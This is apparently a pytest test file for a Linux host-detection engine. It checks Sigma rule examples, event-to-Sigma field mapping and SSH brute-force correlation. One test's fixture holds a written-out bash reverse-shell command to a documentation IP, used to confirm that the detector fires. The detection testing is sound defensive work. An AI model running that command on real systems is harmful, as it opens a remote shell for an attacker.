"""Built-in Linux rules: every rule's own positive and negative examples, the HostEvent -> Sigma mapping,
logsource routing, and loading SigmaHQ's Linux rules when ../shared/data is present."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest

from cloudwarden.detect.engine import Detector, builtin_rules_path, load_rules
from cloudwarden.host.sigma_fields import AuthContext, to_sigma, view_matches_logsource
from cloudwarden.models.host_event import HostEvent
from cloudwarden.server.ingest import HostIngest
from cloudwarden.store.state import open_store
from tests.conftest import shared_data

RULES = load_rules([builtin_rules_path("linux")])
SINGLE = [r for r in RULES.rules if r.kind == "single"]
CORR = [r for r in RULES.rules if r.kind == "correlation"]


def test_all_builtin_rules_load_and_have_examples() -> None:
    assert RULES.unsupported == []
    assert len(RULES.rules) >= 20
    for r in RULES.rules:
        ex = r.examples or {}
        assert ex.get("positive") and ex.get("negative"), f"{r.source} lacks positive/negative examples"
        assert r.attack_ids, f"{r.source} has no ATT&CK technique tag"


@pytest.mark.parametrize("rule", SINGLE, ids=lambda r: Path(r.source).stem)
def test_single_rule_examples(rule: Any) -> None:
    for ev in rule.examples["positive"]:
        assert rule.id in {m.rule.id for m in RULES.match(ev, include_silent=True)}, f"should match: {ev}"
    for ev in rule.examples["negative"]:
        assert rule.id not in {m.rule.id for m in RULES.match(ev, include_silent=True)}, f"should not match: {ev}"


@pytest.mark.parametrize("rule", CORR, ids=lambda r: Path(r.source).stem)
def test_correlation_rule_examples(rule: Any) -> None:
    for polarity, want in (("positive", True), ("negative", False)):
        for item in rule.examples[polarity]:
            det = Detector(RULES)
            fired = []
            for i in range(item["sequence"]):
                fired += [a.rule_id for a in det.process({**item["event"], "event_id": f"e{i}"}, datetime.now(UTC))]
            assert (rule.id in fired) is want, f"{polarity} example of {rule.title}"


def _ev(**kw: Any) -> HostEvent:
    base: dict[str, Any] = {"event_id": "e1", "host_id": "h1", "hostname": "web-1", "time": 1.7e9, "kind": "process",
                            "action": "exec", "source": "audit"}
    base.update(kw)
    return HostEvent(**base)


def test_mapping_process_network_file_auth_views() -> None:
    p = _ev(exe="/usr/bin/bash", argv=["bash", "-c", "id"], parent_exe="/usr/sbin/sshd", cwd="/root", user="root",
            session_id=7, extra={"audit_serial": "1", "key": "k", "comm": "bash", "syscall": "59", "syscall_name": "execve"})
    views = to_sigma(p)
    assert [v["logsource_category"] or v["logsource_service"] for v in views] == ["process_creation", "auditd", "auditd"]
    pc, execve, sysc = views
    assert (pc["Image"], pc["CommandLine"], pc["ParentImage"], pc["CurrentDirectory"], pc["LogonId"]) == (
        "/usr/bin/bash", "bash -c id", "/usr/sbin/sshd", "/root", 7)
    assert (execve["type"], execve["a0"], execve["a2"]) == ("EXECVE", "bash", "id")
    assert (sysc["type"], sysc["exe"], sysc["comm"], sysc["key"], sysc["syscall"], sysc["syscall_nr"]) == (
        "SYSCALL", "/usr/bin/bash", "bash", "k", "execve", "59")
    path_view = to_sigma(_ev(kind="file", action="create", path="/etc/cron.d/x", extra={"audit_serial": "2", "nametype": "CREATE"}))[1]
    assert (path_view["type"], path_view["name"], path_view["nametype"]) == ("PATH", "/etc/cron.d/x", "CREATE")
    n = to_sigma(_ev(kind="network", action="connect", direction="outbound", dst_ip="203.0.113.5", dst_port=443, exe="/usr/bin/curl"))[0]
    assert (n["DestinationIp"], n["DestinationPort"], n["Initiated"], n["Image"]) == ("203.0.113.5", 443, "true", "/usr/bin/curl")
    f = to_sigma(_ev(kind="file", action="write", path="/etc/sudoers", exe="/usr/bin/vi"))[0]
    assert (f["TargetFilename"], f["Image"], f["logsource_category"]) == ("/etc/sudoers", "/usr/bin/vi", "file_event")
    assert view_matches_logsource(f, "linux", "file_event", None) and not view_matches_logsource(f, "linux", "process_creation", None)


def test_recent_failures_annotation_drives_bruteforce_then_success() -> None:
    ctx = AuthContext(window=600)
    for i in range(6):
        to_sigma(_ev(kind="auth", action="login_failure", src_ip="198.51.100.9", user="admin", time=1000 + i), ctx)
    ok = to_sigma(_ev(kind="auth", action="login_success", src_ip="198.51.100.9", user="admin", time=1010, success=True), ctx)[0]
    assert ok["RecentFailures"] == 6
    later = to_sigma(_ev(kind="auth", action="login_success", src_ip="198.51.100.9", user="admin", time=1020, success=True), ctx)[0]
    assert later["RecentFailures"] == 0


def test_ingest_detection_keeps_rules_to_their_logsource() -> None:
    svc = HostIngest(open_store("sqlite://"), None, alert_sink=lambda a: None)
    # A network event from bash must fire the network rule, not the process rules that also look at Image.
    net = _ev(kind="network", action="connect", direction="outbound", exe="/usr/bin/bash", argv=["bash", "-c", "x /dev/tcp/1.2.3.4/1"],
              dst_ip="203.0.113.5", dst_port=4444)
    titles = {a.title for a in svc.detect([net])}
    assert titles == {"Shell process opened an outbound network connection"}
    proc = _ev(exe="/usr/bin/bash", argv=["bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"])
    alerts = svc.detect([proc])
    assert {a.title for a in alerts} == {"Reverse shell through bash /dev/tcp"}
    a = alerts[0]
    assert (a.source, a.entity, a.host, a.attack_ids, a.evidence_ids) == ("host", "h1", "web-1", ["T1059.004"], ["e1"])


def test_bruteforce_sequence_through_ingest_detection() -> None:
    svc = HostIngest(open_store("sqlite://"), None, alert_sink=lambda a: None)
    evs = [_ev(event_id=f"f{i}", kind="auth", action="login_failure", src_ip="198.51.100.9", user="root", time=2000 + i, success=False)
           for i in range(10)]
    evs.append(_ev(event_id="ok", kind="auth", action="login_success", src_ip="198.51.100.9", user="root", time=2011, success=True))
    titles = [a.title for a in svc.detect(evs)]
    assert "SSH brute force" in titles and "SSH login succeeded after repeated failures" in titles


def test_sigmahq_linux_rules_load_with_unsupported_reported() -> None:
    root = shared_data("sigma")
    dirs = sorted({p for p in root.rglob("linux") if p.is_dir() and "rules" in p.parts})
    assert dirs, f"no rules/linux folder under {root}"
    rs = load_rules(dirs[:1])
    total = len(rs.rules) + len(rs.unsupported)
    print(f"SigmaHQ linux: {len(rs.rules)} loaded, {len(rs.unsupported)} unsupported")
    for src, rid, reason in rs.unsupported:
        print(f"  unsupported {src} {rid}: {reason}")
    assert total >= 200 and len(rs.rules) >= 0.9 * total
    categories = {(r.logsource.category or r.logsource.service) for r in rs.rules}
    assert {"process_creation", "network_connection", "file_event", "auditd"} <= categories


def test_examples_pass_the_engine_example_runner() -> None:
    from cloudwarden.detect.examples import run_examples

    bad = [(r.rule.title, r.kind, r.index, r.detail) for r in run_examples(RULES, require=True) if not r.ok]
    assert bad == []


@pytest.mark.parametrize("path", sorted(builtin_rules_path("linux").glob("*.yml")), ids=lambda p: p.name)
def test_builtin_linux_metadata(path: Path) -> None:
    import re
    import uuid

    import yaml

    for doc in yaml.safe_load_all(path.read_text()):
        uuid.UUID(doc["id"])
        assert doc["author"] == "cloudwarden" and doc["title"] and doc["description"] and doc["falsepositives"]
        assert doc["level"] in ("informational", "low", "medium", "high", "critical")
        assert any(re.fullmatch(r"attack\.t\d{4}(\.\d{3})?", t) for t in doc["tags"])
    ids = [yaml.safe_load(p.read_text())["id"] for p in builtin_rules_path("linux").glob("*.yml")]
    assert len(ids) == len(set(ids))
